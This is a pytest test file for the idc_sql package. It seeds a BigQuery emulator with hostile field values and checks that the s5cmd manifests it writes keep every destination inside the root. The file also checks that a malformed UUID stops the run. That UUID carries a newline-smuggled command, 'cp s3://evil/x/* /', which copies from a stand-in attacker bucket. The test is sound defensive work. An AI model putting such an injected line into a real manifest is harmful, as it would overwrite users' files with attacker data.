"""Hostile values through BigQuery: a release of ``dicom_all`` in the emulator whose series carry
them in every destination field, and one whose uuid is not a uuid.

The manifests written from BigQuery's result must read as s5cmd lines plus comments, one line per
series, each destination inside the root and distinct; the bad uuid must stop the run, named.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from google.cloud import bigquery
from hostile import HOSTILE, assert_under, read_manifest, row, safe

import idc_sql
from idc_sql.engines.bigquery import BigQueryEngine, Settings
from idc_sql.errors import OutputError

from .emulator import FAST_RETRY, Emulator
from .fixture import FIXTURE_PROJECT, dicom_all_schema

#: a release of its own, so that the fixture's idc_v25 stays as it is
RELEASE = 23
FIELDS = ("collection_id", "PatientID", "StudyInstanceUID", "Modality")
BAD_UUID = "0c5f7a5e-8d1b-4c1e-9f5a-3f3e1c2b9d7a\ncp s3://evil/x/* /"


def _series() -> list[dict[str, Any]]:
    rows = [
        row(len(FIELDS) * i + j, **{field: value})
        for i, value in enumerate(HOSTILE)
        for j, field in enumerate(FIELDS)
    ]
    rows.append(row(len(rows), collection_id="bad", crdc_series_uuid=BAD_UUID))
    return rows


def _instances(series: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for k in range(2):
        yield {
            **{f: series[f] for f in (*FIELDS, "SeriesInstanceUID", "aws_bucket")},
            "crdc_series_uuid": series["crdc_series_uuid"],
            "SOPInstanceUID": f"{series['SeriesInstanceUID']}.{k}",
            "instance_size": "1000",
        }


@pytest.fixture(scope="module")
def engine(bq_emulator: Emulator) -> BigQueryEngine:
    client = bq_emulator.client()
    dataset = bigquery.Dataset(f"{FIXTURE_PROJECT}.idc_v{RELEASE}")
    client.create_dataset(dataset, exists_ok=True, retry=FAST_RETRY)
    table = bigquery.Table(f"{FIXTURE_PROJECT}.idc_v{RELEASE}.dicom_all", schema=dicom_all_schema())
    client.delete_table(table, not_found_ok=True, retry=FAST_RETRY)
    created = client.create_table(table, retry=FAST_RETRY)
    rows = [instance for series in _series() for instance in _instances(series)]
    errors = client.insert_rows_json(created, rows, retry=FAST_RETRY)
    assert not errors
    settings = Settings(project="idc-sql-tests", endpoint=bq_emulator.endpoint, deadline=20)
    return BigQueryEngine(settings)


def _run(engine: BigQueryEngine, where: dict[str, Any]) -> idc_sql.CohortResult:
    spec = {
        "name": "hostile",
        "idc_version": RELEASE,
        "where": where,
        "columns": ["SeriesInstanceUID", "PatientID", "Modality"],
    }
    return idc_sql.run(idc_sql.parse_spec(spec), engine)


def test_hostile_values_from_bigquery(engine: BigQueryEngine, tmp_path: Path) -> None:
    result = _run(engine, {"not": {"collection_id": "bad"}})
    series = [s for s in _series() if s["collection_id"] != "bad"]
    assert result.summary.series == len(series)
    expected = {
        s["crdc_series_uuid"]: "{}/{}/{}/{}_{}/".format(
            *(safe(s[f]) for f in FIELDS), s["crdc_series_uuid"]
        )
        for s in series
    }
    out = tmp_path / "hostile.s5cmd"
    result.write(str(out))
    manifest = read_manifest(out.read_text(encoding="utf-8"))
    assert len(manifest.lines) == len(series) == manifest.provenance["series"]
    assert manifest.provenance["idc_version"] == f"v{RELEASE}"
    assert manifest.provenance["engine"] == "bigquery"
    assert {u: d for _, u, d in manifest.lines} == expected
    for _, _, destination in manifest.lines:
        assert_under(destination)
    assert len({d for _, _, d in manifest.lines}) == len(series)

    root = tmp_path / "hostile.json"
    result.write(str(root), destination="data", layout="{PatientID}/{crdc_series_uuid}")
    document = json.loads(root.read_text(encoding="utf-8"))
    assert {s["crdc_series_uuid"]: s["destination"] for s in document["series"]} == {
        s["crdc_series_uuid"]: f"data/{safe(s['PatientID'])}/{s['crdc_series_uuid']}/"
        for s in series
    }
    assert {s["instance_count"] for s in document["series"]} == {2}
    assert {s["size_bytes"] for s in document["series"]} == {2000}


def test_a_bad_uuid_from_bigquery_stops_the_run(engine: BigQueryEngine, tmp_path: Path) -> None:
    result = _run(engine, {"collection_id": "bad"})
    out = tmp_path / "bad.s5cmd"
    with pytest.raises(OutputError) as caught:
        result.write(str(out))
    (bad,) = [s for s in _series() if s["collection_id"] == "bad"]
    assert str(caught.value).startswith(
        f"1 series cannot be written to a manifest: series '{bad['SeriesInstanceUID']}' has "
        "crdc_series_uuid '0c5f7a5e-8d1b-4c1e-9f5a-3f3e1c2b9d7a\\ncp s3://evil/x/* /' and "
        "aws_bucket 'idc-open-data'. "
    )
    assert not out.exists()
